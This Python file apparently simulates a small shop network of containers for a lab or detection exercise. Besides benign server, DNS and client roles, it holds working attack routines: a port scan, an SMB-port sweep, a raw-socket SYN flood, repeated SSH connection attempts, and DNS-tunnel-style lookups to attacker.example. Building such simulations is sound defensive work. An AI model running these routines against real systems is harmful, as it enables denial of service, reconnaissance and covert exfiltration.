"""The roles of the containers in the story's shop, and the attacks of compromised ones: actors.py ROLE ..."""
import random, socket, struct, sys, threading, time

NET = "10.68.0."
STORE, BASTION, NAMES = (NET + spot for spot in ("20", "36", "52"))


def lookup(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(struct.pack("!6H", random.getrandbits(16), 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1", (NAMES, 53))
        return s.recv(1500)


def call(host, port, size, wait=2):
    with socket.create_connection((host, int(port)), wait) as s:
        s.sendall(b"q" * size + b"\n")
        while s.recv(65536):
            pass


def serve(port, size, kind="plain"):
    """Answers each line with `size` bytes; an api queries the store first."""
    server = socket.create_server(("", int(port)), backlog=128)

    def answer(s):
        with s:
            try:
                s.settimeout(3)
                got = s.recv(65536)
                while got and not got.endswith(b"\n"):
                    got = s.recv(65536)
                if kind == "api":
                    lookup("store.shop.example")
                    call(STORE, 9000, 80)
                s.sendall(b"a" * int(size))
            except OSError:
                pass

    while True:
        threading.Thread(target=answer, args=(server.accept()[0],), daemon=True).start()


def names():
    """Knows every name of the shop, and no other."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("", 53))
    while True:
        query, who = s.recvfrom(1500)
        isOurs = b"\4shop" in query
        head = query[:2] + (b"\x81\x80" if isOurs else b"\x81\x83") + b"\0\1" + (b"\0\1" if isOurs else b"\0\0") + bytes(4)
        s.sendto(head + query[12:] + (b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton(STORE) if isOurs else b""), who)


def forever(pause, act):
    while True:
        try:
            act()
        except OSError:
            pass
        time.sleep(float(pause) * random.uniform(0.8, 1.2))


def client(pause, *targets):
    def act():
        host, port, size = random.choice(targets).split(":")
        lookup(f"{random.choice(('web', 'api', 'store'))}.shop.example")
        call(NET + host, port, int(size))
    forever(pause, act)


def knock(hosts, ports, rate):
    """Opens a connection to each, without waiting for an answer."""
    for number in range(30 * rate):
        with socket.socket() as s:
            s.setblocking(False)
            s.connect_ex((hosts[number % len(hosts)], ports[number % len(ports)]))
            time.sleep(1 / rate)


def flood(target, port, count, rate):
    """SYNs from the host's own address, without a completed handshake."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((target, 9))
        own = socket.inet_aton(s.getsockname()[0])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    for number in range(count):
        tcp = struct.pack("!HHIIBBHHH", 1024 + number % 60000, port, number, 0, 0x50, 2, 64240, 0, 0)
        total = sum(struct.unpack("!16H", own + socket.inet_aton(target) + struct.pack("!HH", 6, len(tcp)) + tcp))
        total = (total & 0xFFFF) + (total >> 16)
        total = (total & 0xFFFF) + (total >> 16)
        try:
            raw.sendto(tcp[:16] + struct.pack("!H", ~total & 0xFFFF) + tcp[18:], (target, 0))
        except OSError:
            pass
        time.sleep(1 / rate)


def attempt(host, port):
    """Whether a connection is possible."""
    socket.create_connection((NET + host, int(port)), 1).close()


role, words = sys.argv[1], sys.argv[2:]
{
    "serve": lambda: serve(*words), "names": names, "client": lambda: client(*words), "attempt": lambda: attempt(*words),
    "scan": lambda: knock([STORE], list(range(1000, 3000)), 100),
    "sweep": lambda: knock([NET + str(n) for n in range(1, 255)], [445], 60),
    "flood": lambda: flood(NET + "11", 80, 12000, 400),
    "guess": lambda: forever(0.2, lambda: call(BASTION, 22, 300, 1)),
    "tunnel": lambda: forever(0.06, lambda: lookup(f"{random.getrandbits(240):x}.{random.getrandbits(240):x}.t.attacker.example")),
}[role]()
